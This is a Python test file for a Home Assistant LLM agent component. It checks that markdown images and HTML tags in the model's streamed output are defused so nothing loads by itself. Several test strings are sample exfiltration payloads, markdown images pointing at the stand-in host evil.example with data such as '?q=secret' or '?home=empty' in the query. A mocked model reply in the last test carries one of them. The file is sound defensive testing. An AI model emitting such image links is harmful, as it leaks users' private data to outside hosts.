"""What is shown as Markdown: nothing in it loads by itself, however the model cut it into pieces."""

import html

from homeassistant.core import HomeAssistant
from markdown_it import MarkdownIt
import pytest

from custom_components.home_agent.support.encoding import ShownText, as_markdown, shown
from tests.house import build_house, say, set_up, speech
from tests.llm_server import LLMServer, text, tool_call

CASES = {
    "Nothing special! [really](https://a.b/c)": "Nothing special! [really](https://a.b/c)",
    "See ![x](https://evil.example/?q=secret).": "See [x](https://evil.example/?q=secret).",
    "![x](//evil.example/p)": "[x](//evil.example/p)",
    "![x][ref] ![y]\n\n[ref]: https://evil.example": "[x][ref] [y]\n\n[ref]: https://evil.example",
    "![x]( https://evil.example)": "[x]( https://evil.example)",
    "[![x](https://evil.example/p)](https://a.b)": "[[x](https://evil.example/p)](https://a.b)",
    "![door](/api/camera_proxy/camera.door)": "![door](/api/camera_proxy/camera.door)",
    '<img src="https://evil.example">': '&lt;img src="https://evil.example">',
    "<IMG/src=x> <video src=x></video> <b>bold</b> 1 < 2 <imagine>": (
        "&lt;IMG/src=x> &lt;video src=x>&lt;/video> <b>bold</b> 1 < 2 <imagine>"
    ),
    "Wow!": "Wow!",
    "on <details><summary>x</summary> and off</details>": "on &lt;details>&lt;summary>x&lt;/summary> and off&lt;/details>",
    'a <!-- not this --> <font color="white">nor this</font> <!': (
        'a &lt;!-- not this --> &lt;font color="white">nor this&lt;/font> <!'
    ),
    "a [b": "a [b",
}


@pytest.mark.parametrize(("written", "expected"), CASES.items())
def test_nothing_loads_by_itself(written: str, expected: str) -> None:
    assert shown(written) == expected
    for size in (1, 2, 3, 7):
        display = ShownText()
        pieces = [written[at : at + size] for at in range(0, len(written), size)]
        assert "".join([*(display.feed(piece) for piece in pieces), display.flush()]) == expected


@pytest.mark.parametrize(("written", "expected"), [
    ("[the weather](https://evil.example/?q=secret)", "[the weather] (https://evil.example/?q=secret)"),
    ('[here](<https://a.b/c> "title") and there', '[here] (<https://a.b/c> "title") and there'),
    ("[[a](//b)](https://c)", "[[a] (//b)] (https://c)"),
    ("[x][1]\n\n[1]: https://a.b", "[x][1]\n\n[1] : https://a.b"),
    ('<a href="https://a.b">x</a> <abbr>', '&lt;a href="https://a.b">x&lt;/a> <abbr>'),
    ("[x] (no link) [y](/lovelace/0)", "[x] (no link) [y](/lovelace/0)"),
])  # fmt: skip
def test_no_link_hides_where_it_leads_once_something_from_outside_was_read(written: str, expected: str) -> None:
    assert shown(written, tells_addresses=True) == expected
    display = ShownText(tells_addresses=True)
    assert "".join([*(display.feed(piece) for piece in written), display.flush()]) == expected


def test_what_is_no_markdown_is_drawn_as_it_is() -> None:
    said = "tea”: <details>\n\n# *now* `x` [a](http://b.c) www.b.c a@b.c &lt; 1. x_y ~~z~~ \\| (50 %)"
    drawn = as_markdown(said)
    assert drawn.count("\n") == 0
    assert MarkdownIt("commonmark").enable("strikethrough").renderInline(drawn) == html.escape(
        " ".join(said.split()), quote=False
    )


@pytest.mark.parametrize("piece", ["![", "!", "<", "[", "[a](", "](", "<img ", "![x](/"])
def test_a_long_text_takes_no_longer_by_the_character(piece: str) -> None:
    display = ShownText(tells_addresses=True)
    text_of_many = piece * (200_000 // len(piece))
    said = [display.feed(text_of_many[at : at + 400]) for at in range(0, len(text_of_many), 400)]
    assert len("".join(said)) + len(display.flush()) >= len(text_of_many) // 2


async def test_pictures_of_an_answer_are_links_in_the_chat(hass: HomeAssistant, llm_server: LLMServer) -> None:
    await build_house(hass)
    await set_up(hass, llm_server)
    llm_server.plan(
        tool_call("ha_query", {"entity_id": "light.bed_light"}),
        text("It is off. ![](https://evil.example/?home=empty) ![door](/api/camera_proxy/camera.door)"),
    )
    answer = await say(hass, "Is the bed light on?")
    assert speech(answer) == "It is off. [](https://evil.example/?home=empty) ![door](/api/camera_proxy/camera.door)"
